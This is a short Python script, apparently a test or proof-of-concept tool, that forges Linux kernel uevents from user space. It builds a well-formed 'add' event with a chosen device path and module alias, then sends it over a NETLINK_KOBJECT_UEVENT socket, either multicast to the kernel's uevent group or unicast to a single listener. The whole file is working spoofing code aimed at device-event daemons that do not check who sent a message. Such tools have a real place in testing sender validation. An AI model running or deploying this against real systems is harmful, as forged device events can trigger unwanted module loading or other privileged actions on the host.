#!/usr/bin/env python3
"""Send a forged uevent from user space, as an attacker would.

usage: forge_uevent.py multicast|unicast:PORT DEVPATH MODALIAS
multicast sends to group 1 (where the kernel's uevents go); unicast:PORT sends to one
socket's port id. The datagram is well formed: only its sender gives it away."""
import socket
import sys


def forged(devpath, modalias):
    fields = [f"add@{devpath}", "ACTION=add", f"DEVPATH={devpath}", "SUBSYSTEM=virtio",
              f"MODALIAS={modalias}", "SEQNUM=999999"]
    return b"\0".join(f.encode() for f in fields) + b"\0"


def main():
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    target, devpath, modalias = sys.argv[1:]
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15)  # NETLINK_KOBJECT_UEVENT
    s.bind((0, 0))
    if target == "multicast":
        s.sendto(forged(devpath, modalias), (0, 1))
    else:
        s.sendto(forged(devpath, modalias), (int(target.split(":")[1]), 0))


if __name__ == "__main__":
    main()
